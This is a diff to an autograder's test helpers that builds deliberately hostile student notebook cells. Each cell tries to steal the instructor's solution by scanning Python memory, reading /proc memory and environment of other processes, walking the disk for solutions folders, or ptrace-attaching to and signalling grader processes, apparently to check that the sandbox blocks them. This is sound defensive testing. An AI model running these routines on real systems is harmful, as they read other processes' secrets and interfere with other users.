@@ -120,3 +120,183 @@ def read_csv(path):
 
 def as_json(notebook):
     return json.loads(nbformat.writes(notebook))
+
+
+# --- the hostile corpus's target (exercises v3 may rename items: change them here only) --------
+
+ASSIGNMENT = "one-by-one"
+STOLEN_ITEM = "conv1x1"  # a solution cell's grade_id, and the function it defines
+STOLEN_TESTS = {"test_conv1x1_public", "test_conv1x1_hidden"}  # the test cells that grade it
+WRONG_STOLEN_ITEM = '''def conv1x1(x, weight, bias=None):
+    return np.einsum("oc,nchw->nohw", weight, x)  # forgets the bias'''
+MARKER = "### BEGIN SOLUTION"  # what only the instructor's copy holds
+
+# A solution cell that looks for the instructor's solution of STOLEN_ITEM by one route, and
+# uses it if found; otherwise it keeps WRONG_STOLEN_ITEM (the control: the same cell without the
+# attempt). Each route is a function filling `found` with texts that hold MARKER.
+THIEF_ROUTES = {
+    # its own memory: what it inherited (the collector's frozen objects, every module's globals)
+    "memory": r'''
+import gc, sys
+gc.unfreeze()
+def _texts(value, depth=0):
+    if isinstance(value, (bytes, bytearray)):
+        value = bytes(value).decode("utf-8", "replace")
+    if isinstance(value, str):
+        if MARKER in value:
+            found.append(value)
+    elif depth < 3 and isinstance(value, dict):
+        for v in list(value.values())[:10000]:
+            _texts(v, depth + 1)
+    elif depth < 3 and isinstance(value, (list, tuple)):
+        for v in list(value)[:10000]:
+            _texts(v, depth + 1)
+for obj in gc.get_objects():
+    try:
+        _texts(obj)
+    except Exception:
+        pass
+for module in list(sys.modules.values()):
+    try:
+        _texts(vars(module))
+    except Exception:
+        pass
+''',
+    # every byte of its own address space, and of every process it can see (the parent first)
+    "proc": r'''
+import os, re
+def _scan(pid):
+    try:
+        maps = open(f"/proc/{pid}/maps").read().splitlines()
+        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
+            for line in maps:
+                start, end = (int(x, 16) for x in line.split()[0].split("-"))
+                if "r" not in line.split()[1] or end - start > 1 << 28:
+                    continue
+                try:
+                    mem.seek(start)
+                    chunk = mem.read(end - start)
+                except (OSError, ValueError, OverflowError):
+                    continue
+                at = chunk.find(MARKER.encode())
+                while at >= 0:
+                    found.append(chunk[max(at - 20000, 0):at + 20000].decode("utf-8", "replace"))
+                    at = chunk.find(MARKER.encode(), at + 1)
+    except Exception:
+        pass
+    for name in ("environ", "cmdline"):
+        try:
+            found.append(open(f"/proc/{pid}/{name}", "rb").read().decode("utf-8", "replace"))
+        except Exception:
+            pass
+pids = [os.getppid(), "self"]
+try:
+    pids += [int(p) for p in os.listdir("/proc") if p.isdigit()]
+except Exception:
+    pass
+for pid in pids:
+    _scan(pid)
+''',
+    # the disk: any solutions/ folder anywhere (another clone of the course too), and any notebook
+    "disk": r'''
+import os, time
+_deadline = time.monotonic() + 8
+_roots = [os.getcwd(), "/srv", "/home", "/root", "/opt", "/work", "/mnt", "/tmp", "/var", "/"]
+for _root in _roots:
+    for folder, dirs, files in os.walk(_root):
+        if time.monotonic() > _deadline or folder.count("/") > 8:
+            dirs[:] = []
+            continue
+        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages",
+                                                ".venv", ".git", "node_modules", "_build")]
+        if os.path.basename(folder) == "solutions" or "solutions" in dirs:
+            for inner, _, names in os.walk(os.path.join(folder, "solutions")
+                                           if "solutions" in dirs else folder):
+                for name in names:
+                    if name.endswith(".ipynb"):
+                        try:
+                            found.append(open(os.path.join(inner, name), errors="replace").read())
+                        except Exception:
+                            pass
+''',
+    # the environment: every variable that names a folder, and a solutions/ folder beside it
+    "env": r'''
+import os
+for value in list(os.environ.values()):
+    for path in value.split(os.pathsep):
+        for up in range(4):
+            candidate = os.path.join(path, *[".."] * up, "solutions")
+            for folder, dirs, files in os.walk(candidate):
+                for name in files:
+                    try:
+                        found.append(open(os.path.join(folder, name), errors="replace").read())
+                    except Exception:
+                        pass
+''',
+    # other processes: trace or stop the grader, its student fork server and other students
+    # (only processes of the grader: should the fence ever fail, nothing else is touched)
+    "signals": r"""
+import ctypes, os, signal
+_libc = ctypes.CDLL(None, use_errno=True)
+_targets = {os.getppid()}
+try:
+    for p in os.listdir("/proc"):
+        if p.isdigit() and b"onebyone" in open(f"/proc/{p}/cmdline", "rb").read():
+            _targets.add(int(p))
+except Exception:
+    pass
+_targets -= {os.getpid(), 0}
+for pid in sorted(_targets):
+    if _libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH: its memory would be ours
+        found.append(f"attached {pid}")
+        _libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
+    for sig in (signal.SIGSTOP, signal.SIGCONT):
+        try:
+            os.kill(pid, sig)
+            found.append(f"signalled {pid}")
+        except Exception:
+            pass
+""",
+}
+
+THIEF_USE = r'''
+import re
+_stolen = None
+for _text in found:
+    _at = _text.find(f"def {STOLEN}(")
+    while _at >= 0 and _stolen is None:
+        _block = re.sub(r'\\n",\s*"', "\n", _text[_at:]).replace('\\"', '"')  # JSON lines
+        _cell = _block.split("END SOLUTION")[0]
+        if MARKER not in _cell or _cell == _block:  # not the instructor's copy, or cut short
+            _at = _text.find(f"def {STOLEN}(", _at + 1)
+            continue
+        _code = "\n".join(l for l in _cell.splitlines()[:-1] if MARKER not in l)
+        try:
+            _space = {"np": np}
+            exec(_code, _space)
+            globals()[STOLEN] = _space[STOLEN]
+            _stolen = _code
+        except Exception:
+            _at = _text.find(f"def {STOLEN}(", _at + 1)
+'''
+
+
+def thief(route):
+    """The solution cell STOLEN_ITEM of a student who tries `route` (see THIEF_ROUTES)."""
+    # the marker is spelt in two halves, so that the cell's own text never matches it
+    half = len(MARKER) // 2
+    marker = f"MARKER = {MARKER[:half]!r} + {MARKER[half:]!r}"
+    return "\n".join([WRONG_STOLEN_ITEM, marker, f"STOLEN = {STOLEN_ITEM!r}",
+                      "found = []", "try:", _indent(THIEF_ROUTES[route]),
+                      "except BaseException:", "    pass", THIEF_USE])
+
+
+def _indent(code):
+    return "\n".join("    " + line if line.strip() else line for line in code.splitlines())
+
+
+def thief_notebook(route, course=ROOT):
+    """The honest notebook whose STOLEN_ITEM cell is the wrong code plus the theft by `route`
+    (None: the control, the same wrong code without any attempt)."""
+    notebook = honest(ASSIGNMENT, course)
+    return set_code(notebook, STOLEN_ITEM, WRONG_STOLEN_ITEM if route is None else thief(route))
